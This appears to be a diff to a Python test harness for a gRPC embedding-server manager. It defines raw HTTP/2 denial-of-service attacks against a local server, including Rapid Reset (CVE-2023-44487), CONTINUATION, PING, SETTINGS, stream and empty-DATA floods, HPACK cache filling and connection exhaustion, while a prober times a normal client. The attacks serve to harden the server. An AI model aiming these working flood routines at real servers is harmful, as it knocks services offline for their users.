@@ -18,11 +18,15 @@ import struct
 from collections.abc import AsyncIterator, Callable, Iterable
 from contextlib import asynccontextmanager
 from dataclasses import dataclass, field
+from typing import Any
 
 import trio
+from google.protobuf.message import Message
 
 from tei_manager._proto.tei.v1 import tei_grpc, tei_pb2
+from tei_manager._proto.tei_multiplexer.v1 import multiplexer_grpc, multiplexer_pb2
 from tei_manager.grpc.channel import open_channel
+from tei_manager.grpc.rpc import MethodSpec
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
@@ -114,6 +118,38 @@ def grpc_message(payload: bytes) -> bytes:
 
 
 TOKENIZE_REQUEST = grpc_message(tei_pb2.EncodeRequest(inputs="hello").SerializeToString())
+
+
+@dataclass(frozen=True)
+class Service:
+    """The cheap call attacks and the well-behaved client make: a method and a request."""
+
+    spec: MethodSpec[Any, Any]
+    request: Message
+
+    @property
+    def path(self) -> str:
+        return self.spec.path
+
+    @property
+    def message(self) -> bytes:
+        """The request as a length-prefixed gRPC message."""
+        return grpc_message(self.request.SerializeToString())
+
+
+#: A worker's Tokenize.
+WORKER = Service(tei_grpc.Tokenize.Tokenize, tei_pb2.EncodeRequest(inputs="hello"))
+
+
+def multiplexer_service(instance: str) -> Service:
+    """The multiplexer's Tokenize, routed to ``instance``."""
+    return Service(
+        multiplexer_grpc.TeiMultiplexer.Tokenize,
+        multiplexer_pb2.EncodeRequest(
+            target=multiplexer_pb2.Target(instance_name=instance),
+            request=tei_pb2.EncodeRequest(inputs="hello"),
+        ),
+    )
 
 
 def opening(*pairs: tuple[int, int]) -> bytes:
@@ -322,7 +358,8 @@ class Attacker:
 class Prober:
     """Tokenize calls one after another on their own connection, while an attack runs."""
 
-    def __init__(self) -> None:
+    def __init__(self, service: Service = WORKER) -> None:
+        self.service = service
         self.calls = 0
         self.failures = 0
         self.max_stall = 0.0
@@ -336,16 +373,16 @@ class Prober:
         call_limit: float = 10.0,
         task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED,
     ) -> None:
-        request = tei_pb2.EncodeRequest(inputs="a well-behaved client")
+        spec, request = self.service.spec, self.service.request
         async with open_channel("127.0.0.1", port) as channel:
-            await channel.unary_unary(tei_grpc.Tokenize.Tokenize, request)  # connected
+            await channel.unary_unary(spec, request)  # connected
             task_status.started()
             while True:
                 started = trio.current_time()
                 await trio.sleep(pause)
                 try:
                     with trio.fail_after(call_limit):
-                        await channel.unary_unary(tei_grpc.Tokenize.Tokenize, request)
+                        await channel.unary_unary(spec, request)
                 except Exception:
                     self.failures += 1
                 self.calls += 1
@@ -355,8 +392,8 @@ class Prober:
 
 
 @asynccontextmanager
-async def probing(port: int) -> AsyncIterator[Prober]:
-    prober = Prober()
+async def probing(port: int, service: Service = WORKER) -> AsyncIterator[Prober]:
+    prober = Prober(service)
     async with trio.open_nursery() as nursery:
         await nursery.start(prober.run, port)
         yield prober
@@ -371,18 +408,22 @@ async def probing(port: int) -> AsyncIterator[Prober]:
 # its Outcome. ``scale`` multiplies the work (1.0: the figures of issue 13).
 
 
-async def continuation_flood(port: int, scale: float = 1.0) -> Outcome:
+async def continuation_flood(
+    port: int, scale: float = 1.0, *, service: Service = WORKER
+) -> Outcome:
     """~90 KB of empty CONTINUATION frames after a HEADERS without END_HEADERS."""
     count = int(10_000 * scale)
     async with Attacker.connect(port, "empty CONTINUATION flood") as attacker:
-        start = opening() + frame(HEADERS, 0, 1, request_block())
+        start = opening() + frame(HEADERS, 0, 1, request_block(service.path))
         # All at once: the server gets the whole chain in one read.
         await attacker.send(start + frame(CONTINUATION, 0, 1) * count)
         await attacker.wait_closed(2.0)
         return attacker.outcome
 
 
-async def hpack_cache_fill(port: int, scale: float = 1.0, *, size: int = 4000) -> Outcome:
+async def hpack_cache_fill(
+    port: int, scale: float = 1.0, *, service: Service = WORKER, size: int = 4000
+) -> Outcome:
     """Distinct large header blocks (literals never indexed): what the decoder's caches
     keep of them."""
     count = int(2000 * scale)
@@ -393,7 +434,7 @@ async def hpack_cache_fill(port: int, scale: float = 1.0, *, size: int = 4000) -
             frames = []
             for i in range(first, min(count, first + batch)):
                 value = f"{i:08d}".encode() * (size // 8)
-                block = request_block(TOKENIZE, hpack_literal("x-pad", value))
+                block = request_block(service.path, hpack_literal("x-pad", value))
                 frames.append(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))
             if not await attacker.send(b"".join(frames)):
                 break
@@ -402,17 +443,24 @@ async def hpack_cache_fill(port: int, scale: float = 1.0, *, size: int = 4000) -
         return attacker.outcome
 
 
-async def window_parking(port: int, scale: float = 1.0, *, streams: int = 16) -> Outcome:
-    """Streams whose request message never completes: as much data as the server's
-    windows take, parked unread."""
-    total = int(48 * 2**20 * scale)
+async def window_parking(
+    port: int,
+    scale: float = 1.0,
+    *,
+    service: Service = WORKER,
+    streams: int = 16,
+    message_bytes: int = 40 * 2**20 - 1,
+) -> Outcome:
+    """Streams whose request message (``message_bytes``: the largest the server allows)
+    never completes: as much data as the server's windows take, parked unread."""
+    total = int(64 * 2**20 * scale)
     async with Attacker.connect(port, "unread data parked in windows") as attacker:
         ids = [2 * i + 1 for i in range(streams)]
         start = opening()
         for sid in ids:
-            # A 32 MiB message is announced; its bytes come as far as the windows allow.
-            start += frame(HEADERS, END_HEADERS, sid, request_block())
-            start += frame(DATA, 0, sid, struct.pack(">BL", 0, 32 * 2**20))
+            # A large message is announced; its bytes come as far as the windows allow.
+            start += frame(HEADERS, END_HEADERS, sid, request_block(service.path))
+            start += frame(DATA, 0, sid, struct.pack(">BL", 0, message_bytes))
         await attacker.send(start)
         for sid in ids:
             attacker.open_stream(sid)
@@ -425,18 +473,18 @@ async def window_parking(port: int, scale: float = 1.0, *, streams: int = 16) ->
         return attacker.outcome
 
 
-async def rapid_reset(port: int, scale: float = 1.0) -> Outcome:
+async def rapid_reset(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """HEADERS + DATA + RST_STREAM (CVE-2023-44487), 20k times on one connection."""
     count = int(20_000 * scale)
     async with Attacker.connect(port, "Rapid Reset") as attacker:
-        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block())
-        first += frame(DATA, 0, 1, TOKENIZE_REQUEST) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08")
+        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
+        first += frame(DATA, 0, 1, service.message) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08")
         await attacker.send(opening() + first)
         batch = 500
         for start in range(1, count, batch):
             chunk = b"".join(
                 frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
-                + frame(DATA, 0, 2 * i + 1, TOKENIZE_REQUEST)
+                + frame(DATA, 0, 2 * i + 1, service.message)
                 + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")
                 for i in range(start, min(count, start + batch))
             )
@@ -447,7 +495,9 @@ async def rapid_reset(port: int, scale: float = 1.0) -> Outcome:
         return attacker.outcome
 
 
-async def unknown_method_echo(port: int, scale: float = 1.0, *, path_length: int = 3000) -> Outcome:
+async def unknown_method_echo(
+    port: int, scale: float = 1.0, *, service: Service = WORKER, path_length: int = 3000
+) -> Outcome:
     """A peer that never reads asks, many times, for an unknown method whose long path
     sits in the HPACK table: each tiny request would be answered with the path."""
     count = int(20_000 * scale)
@@ -485,7 +535,7 @@ async def longest_grpc_message(port: int, path_length: int = 6000) -> int:
         return max(len(block) for _, block in attacker.headers_received)
 
 
-async def ping_flood(port: int, scale: float = 1.0) -> Outcome:
+async def ping_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """PING frames from a peer that never reads their ACKs."""
     count = int(200_000 * scale)
     async with Attacker.connect(
@@ -499,12 +549,12 @@ async def ping_flood(port: int, scale: float = 1.0) -> Outcome:
         return attacker.outcome
 
 
-async def stream_flood(port: int, scale: float = 1.0) -> Outcome:
+async def stream_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """20k concurrent streams opened by HEADERS alone (each handler waits for its
     request message)."""
     count = int(20_000 * scale)
     async with Attacker.connect(port, "20k concurrent streams") as attacker:
-        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block())
+        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
         await attacker.send(opening() + first)
         batch = 1000
         for start in range(1, count, batch):
@@ -522,30 +572,34 @@ async def stream_flood(port: int, scale: float = 1.0) -> Outcome:
         return attacker.outcome
 
 
-async def backwards_stream_id(port: int, scale: float = 1.0) -> Outcome:
+async def backwards_stream_id(
+    port: int, scale: float = 1.0, *, service: Service = WORKER
+) -> Outcome:
     """A stream id lower than one already opened, never used before (RFC 9113 §5.1.1)."""
     async with Attacker.connect(port, "stream id going backwards") as attacker:
         await attacker.send(
             opening()
-            + frame(HEADERS, END_HEADERS, 5, request_block())
-            + frame(HEADERS, END_HEADERS, 3, request_block())
+            + frame(HEADERS, END_HEADERS, 5, request_block(service.path))
+            + frame(HEADERS, END_HEADERS, 3, request_block(service.path))
         )
         await attacker.wait_closed(1.0)
         return attacker.outcome
 
 
-async def empty_data_flood(port: int, scale: float = 1.0) -> Outcome:
+async def empty_data_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """Empty DATA frames on an open stream (CVE-2019-9518)."""
     count = int(100_000 * scale)
     async with Attacker.connect(port, "empty DATA flood") as attacker:
-        await attacker.send(opening() + frame(HEADERS, END_HEADERS, 1, request_block()))
+        await attacker.send(opening() + frame(HEADERS, END_HEADERS, 1, request_block(service.path)))
         empties = frame(DATA, 0, 1) * 1000
         await attacker.send_all([empties] * (count // 1000))
         await attacker.wait_closed(1.0)
         return attacker.outcome
 
 
-async def empty_headers_flood(port: int, scale: float = 1.0) -> Outcome:
+async def empty_headers_flood(
+    port: int, scale: float = 1.0, *, service: Service = WORKER
+) -> Outcome:
     """HEADERS frames with an empty header block, each on a new stream."""
     count = int(20_000 * scale)
     async with Attacker.connect(port, "empty HEADERS flood") as attacker:
@@ -563,7 +617,7 @@ async def empty_headers_flood(port: int, scale: float = 1.0) -> Outcome:
         return attacker.outcome
 
 
-async def settings_flood(port: int, scale: float = 1.0) -> Outcome:
+async def settings_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """SETTINGS frames (each owed an ACK) from a peer that never reads."""
     count = int(100_000 * scale)
     async with Attacker.connect(
@@ -633,13 +687,37 @@ ATTACKS = [
 __all__ = ["ATTACKS", "Attack", "Attacker", "Outcome", "Prober", "probing"]
 
 
-async def empty_header_name(port: int, scale: float = 1.0) -> Outcome:
+async def empty_header_name(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """A request with a header whose name is empty (RFC 9113 §8.2: malformed)."""
     async with Attacker.connect(port, "empty header name") as attacker:
-        block = request_block(TOKENIZE, hpack_literal("", "x"))
+        block = request_block(service.path, hpack_literal("", "x"))
         await attacker.send(opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
         await attacker.wait_closed(0.5)
         return attacker.outcome
 
 
 ATTACKS.append(Attack("empty_header_name", empty_header_name, None))
+
+
+async def many_connections(port: int, count: int, hold: float) -> Outcome:
+    """``count`` connections at once, each a full preface and SETTINGS, held ``hold``
+    seconds: how many the server served (its SETTINGS arrived) and how many it closed."""
+    outcome = Outcome("more connections than the limit")
+    served = closed = 0
+    async with trio.open_nursery() as nursery:
+
+        async def one() -> None:
+            nonlocal served, closed
+            async with Attacker.connect(port, "one of many") as attacker:
+                await attacker.send(opening())
+                outcome.bytes_sent += attacker.outcome.bytes_sent
+                if await attacker.wait_closed(hold):
+                    closed += 1
+                elif attacker.outcome.max_concurrent_streams is not None:
+                    served += 1
+
+        for _ in range(count):
+            nursery.start_soon(one)
+    outcome.notes.update(served=served, closed=closed)
+    outcome.ended = f"{closed} of {count} closed"
+    return outcome
